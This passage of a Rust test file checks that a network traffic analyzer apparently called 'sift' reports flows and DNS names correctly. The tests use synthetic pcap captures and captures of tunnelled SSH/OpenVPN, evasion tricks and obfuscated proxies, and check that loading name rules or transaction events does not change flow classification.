        .map(|i| {
            udp(
                (CLIENT, 40_054),
                (SERVER, 53),
                &dns_message(i, false, &format!("q{i}.example"), 1, 0),
            )
        })
        .collect();
    for _ in 0..4 {
        frames.push(udp(
            (CLIENT, 40_054),
            (SERVER, 53),
            b"not a DNS message at all",
        ));
    }
    let mut bytes = file(&frames);
    // Space the records a second apart (file() puts them 1 ms apart).
    let mut at = 24;
    for i in 0..frames.len() {
        bytes[at..at + 4].copy_from_slice(&(1_700_000_000u32 + i as u32).to_le_bytes());
        let caplen = u32::from_le_bytes(bytes[at + 8..at + 12].try_into().unwrap()) as usize;
        at += 16 + caplen;
    }
    let t = TempFile::new("long.pcap", &bytes);
    let out = sift([
        "analyze",
        "-q",
        "--format",
        "json",
        "--events",
        "flow,dns",
        "--active-timeout",
        "2",
        t.path(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let records = eve(&out.stdout);
    let flows = records.iter().filter(|r| r["event_type"] == "flow").count();
    assert!(flows >= 2, "{records:#?}");
    let mut names: Vec<&str> = records
        .iter()
        .filter(|r| r["event_type"] == "dns")
        .map(|r| r["dns"]["rrname"].as_str().unwrap())
        .collect();
    names.sort_unstable();
    assert_eq!(
        names,
        [
            "q1.example",
            "q2.example",
            "q3.example",
            "q4.example",
            "q5.example"
        ]
    );
}

/// Flow records of `capture` as a run with `args` writes them, without
/// what only rules add (their hits, the verdict, `alerted`).
fn flows_without_rule_fields(capture: &str, args: &[&str]) -> Vec<serde_json::Value> {
    let path = project_file(capture);
    let mut all = vec!["analyze", "--format", "json", "-q", "--threads", "1"];
    all.extend_from_slice(args);
    all.push(path.to_str().unwrap());
    let out = sift(&all);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    eve(&out.stdout)
        .into_iter()
        .filter(|r| r["event_type"] == "flow")
        .map(|mut r| {
            r.as_object_mut().unwrap().remove("verdict");
            r["sift"].as_object_mut().unwrap().remove("rules");
            r["flow"].as_object_mut().unwrap().remove("alerted");
            r
        })
        .collect()
}

/// Reading every HTTP request and DNS message of a flow (for
/// per-transaction events, or for rules on names and URLs) must not change
/// what the flow is found to be: the client stream is read on only after
/// classification ends where it would have ended anyway. Before, a proxied
/// SSH or OpenVPN stream behind an HTTP CONNECT was named `http` when a
/// name rule was loaded (the proxy's answer was never read), and evasion
/// tricks past the decision were noted only then.
#[test]
fn reading_transactions_changes_no_flow_record() {
    let rules = TempFile::new("name.rules", b"alert 1 \"x\" { name nothing.invalid }\n");
    for capture in [
        "captures/vpn/userspace/ssh-via-http-connect.pcap",
        "captures/vpn/userspace/openvpn-via-http-connect.pcap",
        "captures/vpn/userspace/tls-via-http-connect.pcap",
        "captures/evasion/emu-fakedsplit-http-v4.pcap",
        "captures/evasion/emu-fakeddisorder-http-v4.pcap",
        "captures/obfs/ss-v2ray-ws-80.pcap",
    ] {
        let plain = flows_without_rule_fields(capture, &[]);
        assert!(!plain.is_empty(), "{capture}");
        let events = flows_without_rule_fields(capture, &["--events", "flow,alert,http,dns"]);
        let named = flows_without_rule_fields(capture, &["--rules", rules.path()]);
        assert_eq!(events, plain, "{capture}: with per-transaction events");
        assert_eq!(named, plain, "{capture}: with a name rule");
    }
    let ssh = flows_without_rule_fields(
        "captures/vpn/userspace/ssh-via-http-connect.pcap",
        &["--rules", rules.path()],
    );
    assert!(ssh.iter().all(|r| r["app_proto"] == "ssh"), "{ssh:?}");
}
